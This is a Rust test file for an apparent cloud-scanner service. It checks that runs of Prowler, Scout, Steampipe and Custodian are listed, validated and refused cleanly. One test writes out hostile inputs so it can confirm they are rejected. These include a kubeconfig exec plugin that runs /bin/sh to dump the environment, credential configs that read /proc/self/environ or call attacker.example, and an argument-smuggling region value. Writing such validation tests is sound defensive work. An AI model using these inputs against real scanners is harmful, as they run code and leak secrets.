//! The scanner tools over HTTP: listed whether installed or not, runnable once a
//! worker's scanner image holds them, refusals that name the field and change nothing,
//! the DSPM runner's aliases, and an installation that is idempotent and leaves an
//! admin's versions alone.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use sage_model::tools::Tool;
use sage_store::tools::Availability;
use sage_testkit::{ADMIN, ANALYST, TestApp, spawn_app, spawn_app_with, spawn_replica, tools_env};

fn entry<'a>(tools: &'a Value, name: &str) -> &'a Value {
    tools["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == name)
        .unwrap()
}

/// What a worker with a scanner image holding every tool but Steampipe reports.
pub(crate) async fn report_scanner_image(app: &TestApp) {
    let report: BTreeMap<Tool, Availability> = Tool::ALL
        .into_iter()
        .map(|tool| {
            let availability = if tool == Tool::Steampipe {
                Availability::Unavailable {
                    reason: "Steampipe and Powerpipe are not in this image".to_owned(),
                }
            } else {
                Availability::Available {
                    version: "1.0".to_owned(),
                    names: serde_json::from_value(json!({"aws": {
                        "compliance": ["cis_2.0_aws"], "services": ["s3", "iam"],
                        "checks": ["s3_bucket_default_encryption"]}}))
                    .unwrap(),
                }
            };
            (tool, availability)
        })
        .collect();
    app.db().report_tools(&report).await.unwrap();
}

/// A read-only policy of one filterless policy.
const POLICY: &str = "policies: [{name: every-bucket, resource: aws.s3}]";

fn fields(body: &Value) -> Vec<String> {
    body["error"]["fields"]
        .as_array()
        .map(|fields| {
            fields
                .iter()
                .map(|f| f["field"].as_str().unwrap().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn the_four_tools_are_installed_and_wait_for_a_workers_report() {
    let app = spawn_app_with(tools_env()).await;
    let (status, tools) = app.get_as("/api/v1/tools", ANALYST).await;
    assert_eq!(status, 200, "{tools}");
    let names: Vec<&str> = tools["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["prowler", "scout", "steampipe", "custodian"]);
    for name in &names {
        let tool = entry(&tools, name);
        assert!(tool["module_id"].is_string(), "{tool}");
        assert_eq!(tool["available"], false);
        assert!(
            tool["unavailable_reason"]
                .as_str()
                .unwrap()
                .contains("no worker has reported"),
            "{tool}"
        );
    }
    let (_, alias) = app.get_as("/oss/api/oss-list", ANALYST).await;
    assert_eq!(alias, tools);

    // Each tool is a module like any other: versioned, described, scanner image,
    // egress, credentials from an assumed role.
    let module = entry(&tools, "custodian")["module_id"].as_str().unwrap();
    let (status, version) = app
        .get_as(&format!("/api/v1/modules/{module}"), ADMIN)
        .await;
    assert_eq!(status, 200, "{version}");
    assert_eq!(version["name"], "custodian");
    assert_eq!(version["image"], "scanner");
    assert_eq!(version["network"], "egress");
    assert_eq!(version["credentials"], "aws_assume_role");
    let schema = &version["params_schema"]["properties"];
    for param in [
        "provider",
        "region",
        "iam_role_arn",
        "iam_session_duration",
        "policy",
    ] {
        assert!(schema[param].is_object(), "{param} missing: {schema}");
    }

    let before = app.audit_count().await;
    let (status, body) = app
        .post_as(
            "/api/v1/tools/custodian/runs",
            ADMIN,
            &json!({"provider": "aws", "policy": POLICY}),
        )
        .await;
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["error"]["code"], "tool_unavailable");
    assert_eq!(app.audit_count().await, before);
}

#[tokio::test]
async fn without_their_drivers_the_tools_are_listed_as_not_installed() {
    let app = spawn_app().await;
    let (_, tools) = app.get_as("/api/v1/tools", ADMIN).await;
    let prowler = entry(&tools, "prowler");
    assert_eq!(prowler["module_id"], Value::Null);
    assert_eq!(prowler["available"], false);
    assert!(
        prowler["unavailable_reason"]
            .as_str()
            .unwrap()
            .contains("sage-tools/prowler.py"),
        "{prowler}"
    );
    let (status, _) = app
        .post_as("/api/v1/tools/prowler/runs", ADMIN, &json!({}))
        .await;
    assert_eq!(status, 404);
    let (status, _) = app.get_as("/api/v1/tools/prowler/runs/latest", ADMIN).await;
    assert_eq!(status, 404);
    let (status, _) = app.get_as("/api/v1/tools/nmap/runs/latest", ADMIN).await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn a_tool_run_is_refused_naming_the_field_and_changes_nothing() {
    let app = spawn_app_with(tools_env()).await;
    report_scanner_image(&app).await;
    let good = json!({"provider": "aws", "region": "ap-northeast-2",
                      "iam_role_arn": "arn:aws:iam::123456789012:role/SageScanner",
                      "iam_session_name": "sage-marketplace", "iam_session_duration": 1800,
                      "iam_external_id": "tenant-7", "policy": POLICY});
    let with = |key: &str, value: Value| {
        let mut body = good.clone();
        body[key] = value;
        body
    };
    let without = |key: &str| {
        let mut body = good.clone();
        body.as_object_mut().unwrap().remove(key);
        body
    };
    for (body, field) in [
        (
            with("iam_role_arn", json!("arn:aws:iam::123456789012:user/bob")),
            "iam_role_arn",
        ),
        (with("iam_role_arn", json!("not an arn")), "iam_role_arn"),
        (
            with("iam_session_duration", json!(100)),
            "iam_session_duration",
        ),
        (
            with("iam_session_duration", json!(86400)),
            "iam_session_duration",
        ),
        (
            with("iam_session_name", json!("has space")),
            "iam_session_name",
        ),
        (with("region", json!("us east 1")), "region"),
        (with("region", json!("us-east-1,--fixer")), "region"),
        (with("provider", json!("oracle")), "provider"),
        (with("colour", json!("blue")), "colour"),
        (with("version", json!("latest")), "version"),
        (with("version", json!(7)), "version"),
        (without("policy"), "policy"),
    ] {
        let before = app.audit_count().await;
        let (status, answer) = app
            .post_as("/api/v1/tools/custodian/runs", ADMIN, &body)
            .await;
        assert_eq!(status, 400, "{field}: {answer}");
        assert_eq!(fields(&answer), [field], "{answer}");
        assert_eq!(app.audit_count().await, before, "a refusal changes nothing");
    }

    // Another cloud without its credentials is refused naming each missing one; one a
    // tool does not scan is refused at the provider.
    for (tool, body, expected) in [
        (
            "prowler",
            json!({"provider": "azure", "azure_tenant_id": "0f1e2d3c-4b5a-4968-8776-655443322110"}),
            vec!["azure_client_id", "azure_client_secret"],
        ),
        ("scout", json!({"provider": "gcp"}), vec!["gcp_credentials"]),
        (
            "prowler",
            json!({"provider": "kubernetes", "kubeconfig": ""}),
            vec!["kubeconfig"],
        ),
        ("scout", json!({"provider": "kubernetes"}), vec!["provider"]),
        (
            "custodian",
            json!({"provider": "gcp", "policy": POLICY}),
            vec!["provider"],
        ),
    ] {
        let before = app.audit_count().await;
        let (status, answer) = app
            .post_as(&format!("/api/v1/tools/{tool}/runs"), ADMIN, &body)
            .await;
        assert_eq!(status, 400, "{tool} {body}: {answer}");
        assert_eq!(fields(&answer), expected, "{answer}");
        assert_eq!(app.audit_count().await, before, "a refusal changes nothing");
    }

    // The tool is unavailable: a clear 409 with the image's reason.
    let (status, answer) = app
        .post_as(
            "/api/v1/tools/steampipe/runs",
            ADMIN,
            &json!({"provider": "aws", "iam_role_arn": "arn:aws:iam::123456789012:role/SageScanner"}),
        )
        .await;
    assert_eq!(status, 409, "{answer}");
    assert_eq!(answer["error"]["code"], "tool_unavailable");
    assert!(
        answer["error"]["message"]
            .as_str()
            .unwrap()
            .contains("not in this image"),
        "{answer}"
    );
    // The module's own route is the same door.
    let (_, tools) = app.get_as("/api/v1/tools", ADMIN).await;
    let steampipe = entry(&tools, "steampipe")["module_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let before = app.execution_count().await;
    let (status, answer) = app
        .post_as(
            &format!("/api/v1/modules/{steampipe}/executions"),
            ADMIN,
            &json!({"params": {"iam_role_arn": "arn:aws:iam::123456789012:role/SageScanner"}}),
        )
        .await;
    assert_eq!(status, 409, "{answer}");
    assert_eq!(answer["error"]["code"], "tool_unavailable");
    assert_eq!(app.execution_count().await, before);
    // Nobody assigned the analyst the tool: it is not theirs to see.
    let (status, _) = app
        .post_as("/api/v1/tools/custodian/runs", ANALYST, &good)
        .await;
    assert_eq!(status, 404);

    // Through each alias of the DSPM runner, the same run.
    for path in [
        "/api/v1/tools/custodian/runs",
        "/oss/api/run/custodian",
        "/oss/api/oss/custodian/run",
    ] {
        let (status, execution) = app.post_as(path, ADMIN, &good).await;
        assert_eq!(status, 202, "{path}: {execution}");
        assert_eq!(execution["status"], "queued");
        assert_eq!(execution["params"]["iam_external_id"], "***");
        assert_eq!(execution["params"]["iam_session_duration"], 1800);
        let id = execution["id"].as_str().unwrap();
        let (status, again) = app.get_as(&format!("/oss/api/runs/{id}"), ADMIN).await;
        assert_eq!(status, 200);
        assert_eq!(again["id"], id);
        let (status, _) = app
            .get_as(&format!("/oss/api/runs/{id}/logs?format=text"), ADMIN)
            .await;
        assert_eq!(status, 200);
    }
    let (status, runs) = app.get_as("/runs", ADMIN).await;
    assert_eq!(status, 200);
    assert_eq!(runs["items"].as_array().unwrap().len(), 3);
}

/// A kubeconfig whose user is `user` (YAML flow mapping).
fn kubeconfig(user: &str) -> String {
    format!(
        "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {{server: 'https://10.0.0.1:6443'}}\nusers:\n- name: u\n  user: {user}\ncontexts:\n- name: c\n  context: {{cluster: c, user: u}}\ncurrent-context: c\n"
    )
}

#[tokio::test]
async fn a_tool_input_that_could_run_code_is_refused_at_either_door_and_changes_nothing() {
    let app = spawn_app_with(tools_env()).await;
    report_scanner_image(&app).await;
    let role = "arn:aws:iam::123456789012:role/SageScanner";
    let exec = kubeconfig(
        "{exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'env > /work/out/proof.txt']}}",
    );
    let external =
        json!({"type": "external_account", "token_url": "https://attacker.example/token",
                          "credential_source": {"file": "/proc/self/environ"}})
        .to_string();
    let cases = [
        // The hole as found: a kubeconfig whose exec plugin runs a shell beside the
        // role's credentials.
        (
            "prowler",
            json!({"provider": "kubernetes", "iam_role_arn": role, "iam_session_duration": 43200, "kubeconfig": exec}),
            vec!["iam_role_arn", "kubeconfig"],
            "users[0].user.exec is not accepted",
        ),
        (
            "prowler",
            json!({"provider": "kubernetes", "kubeconfig": kubeconfig("{auth-provider: {name: oidc, config: {cmd-path: /bin/sh}}}")}),
            vec!["kubeconfig"],
            "users[0].user.auth-provider is not accepted",
        ),
        (
            "prowler",
            json!({"provider": "kubernetes", "kubeconfig": kubeconfig("{tokenFile: /proc/self/environ}")}),
            vec!["kubeconfig"],
            "users[0].user.tokenFile is not accepted",
        ),
        (
            "scout",
            json!({"provider": "gcp", "gcp_credentials": external}),
            vec!["gcp_credentials"],
            "credential_source is not accepted",
        ),
        (
            "custodian",
            json!({"iam_role_arn": role, "policy": "policies:\n- name: stop\n  resource: aws.ec2\n  actions: [stop]\n"}),
            vec!["policy"],
            "policies[0].actions is not accepted",
        ),
        (
            "custodian",
            json!({"iam_role_arn": role, "policy": "policies:\n- name: p\n  resource: aws.s3\n  mode: {type: periodic, schedule: 'rate(1 hour)'}\n"}),
            vec!["policy"],
            "policies[0].mode.schedule is not accepted",
        ),
        (
            "custodian",
            json!({"iam_role_arn": role, "policy": "policies:\n- name: p\n  resource: aws.s3\n  filters:\n  - {type: value, key: Name, op: in, value_from: {url: 'file:///proc/self/environ'}}\n"}),
            vec!["policy"],
            "policies[0].filters[0].value_from is not accepted",
        ),
        (
            "prowler",
            json!({"iam_role_arn": role, "compliance": ".."}),
            vec!["compliance"],
            "must match",
        ),
        // A cloud without its credentials, whichever door.
        (
            "prowler",
            json!({"provider": "azure", "azure_tenant_id": "0f1e2d3c-4b5a-4968-8776-655443322110"}),
            vec!["azure_client_id", "azure_client_secret"],
            "is required to scan azure",
        ),
        // Names the image's Prowler does not hold (as the worker reported them).
        (
            "prowler",
            json!({"iam_role_arn": role, "services": "s3,no_such_service", "compliance": "cis_9.9_aws"}),
            vec!["compliance", "services"],
            "no_such_service not held by this image's prowler for aws",
        ),
    ];
    let (_, tools) = app.get_as("/api/v1/tools", ADMIN).await;
    for (tool, body, expected, message) in cases {
        let before = (app.audit_count().await, app.execution_count().await);
        let (status, answer) = app
            .post_as(&format!("/api/v1/tools/{tool}/runs"), ADMIN, &body)
            .await;
        assert_eq!(status, 400, "{tool} {body}: {answer}");
        assert_eq!(fields(&answer), expected, "{answer}");
        let text = answer.to_string();
        assert!(text.contains(message), "{message} missing from {answer}");
        assert!(
            !text.contains("/proc/self/environ") && !text.contains("/bin/sh"),
            "{answer}"
        );
        // The module's own route is the same door.
        let module = entry(&tools, tool)["module_id"]
            .as_str()
            .unwrap()
            .to_owned();
        let (status, answer) = app
            .post_as(
                &format!("/api/v1/modules/{module}/executions"),
                ADMIN,
                &json!({"params": body}),
            )
            .await;
        assert_eq!(status, 400, "{tool} {body}: {answer}");
        let named: Vec<String> = expected.iter().map(|f| format!("params.{f}")).collect();
        assert_eq!(fields(&answer), named, "{answer}");
        assert_eq!(
            (app.audit_count().await, app.execution_count().await),
            before,
            "a refusal changes nothing"
        );
    }

    // The accepted forms run: a token kubeconfig, a service account key, a read-only
    // policy; the role goes with the AWS run only.
    let key = json!({"type": "service_account", "client_email": "scanner@sage-scan-1.iam.gserviceaccount.com",
        "private_key": "-----BEGIN PRIVATE KEY-----\nTUlJRXZRSUJBREFO\n-----END PRIVATE KEY-----\n",
        "token_uri": "https://oauth2.googleapis.com/token"})
    .to_string();
    for (tool, body) in [
        (
            "prowler",
            json!({"provider": "kubernetes", "kubeconfig": kubeconfig("{token: kube-token-0123456789}")}),
        ),
        (
            "prowler",
            json!({"iam_role_arn": role, "services": "s3,iam", "checks": "s3_bucket_default_encryption"}),
        ),
        ("scout", json!({"provider": "gcp", "gcp_credentials": key})),
        ("custodian", json!({"iam_role_arn": role, "policy": POLICY})),
    ] {
        let (status, answer) = app
            .post_as(&format!("/api/v1/tools/{tool}/runs"), ADMIN, &body)
            .await;
        assert_eq!(status, 202, "{tool}: {answer}");
    }
}

#[tokio::test]
async fn only_the_roles_the_deployment_allows_may_be_assumed() {
    let mut env = tools_env();
    env.set(
        "ASSUME_ROLE_ALLOWED",
        "arn:aws:iam::123456789012:role/scan/*",
    );
    let app = spawn_app_with(env).await;
    report_scanner_image(&app).await;
    let body = |arn: &str| json!({"provider": "aws", "iam_role_arn": arn, "policy": POLICY});
    let (status, refused) = app
        .post_as(
            "/api/v1/tools/custodian/runs",
            ADMIN,
            &body("arn:aws:iam::123456789012:role/SageScanner"),
        )
        .await;
    assert_eq!(status, 400, "{refused}");
    assert_eq!(fields(&refused), ["iam_role_arn"]);
    let (status, accepted) = app
        .post_as(
            "/api/v1/tools/custodian/runs",
            ADMIN,
            &body("arn:aws:iam::123456789012:role/scan/prod"),
        )
        .await;
    assert_eq!(status, 202, "{accepted}");
}

#[tokio::test]
async fn installing_again_changes_nothing_and_an_admins_version_stands() {
    let app = spawn_app_with(tools_env()).await;
    let before = app.audit_count().await;
    let replica = spawn_replica(&app).await;
    assert_eq!(
        replica.audit_count().await,
        before,
        "a second start installs nothing"
    );

    // An admin's own version of Custodian's module.
    let (_, tools) = app.get_as("/api/v1/tools", ADMIN).await;
    let module = entry(&tools, "custodian")["module_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let (_, current) = app
        .get_as(&format!("/api/v1/modules/{module}"), ADMIN)
        .await;
    let mut mine = json!({});
    for key in [
        "script_id",
        "params",
        "args",
        "env",
        "limits",
        "network",
        "image",
        "credentials",
    ] {
        mine[key] = current[key].clone();
    }
    mine["description"] = json!("our own Custodian");
    let (status, created) = app
        .post_as(&format!("/api/v1/modules/{module}/versions"), ADMIN, &mine)
        .await;
    assert_eq!(status, 201, "{created}");

    // A changed driver: the system pins it again, and an admin's version stands.
    let library = std::path::PathBuf::from(app.env.raw("SCRIPTS_DIR").unwrap());
    for tool in ["custodian", "prowler"] {
        let driver = library.join(format!("sage-tools/{tool}.py"));
        let mut code = std::fs::read_to_string(&driver).unwrap();
        code.push_str("\n# changed\n");
        std::fs::write(&driver, code).unwrap();
    }
    let after_edit = app.audit_count().await;
    let replica = spawn_replica(&app).await;
    let (_, custodian) = replica
        .get_as(&format!("/api/v1/modules/{module}"), ADMIN)
        .await;
    assert_eq!(custodian["latest_version"], 2, "{custodian}");
    assert_eq!(custodian["description"], "our own Custodian");
    let repins = replica
        .db()
        .audit_events(&sage_store::audit::AuditFilter {
            action: Some("script.repin".to_owned()),
            limit: 100,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(repins.len(), 2, "{repins:?}");
    assert!(repins.iter().all(|e| e.actor == "system"));
    assert_eq!(replica.audit_count().await, after_edit + 2);
}
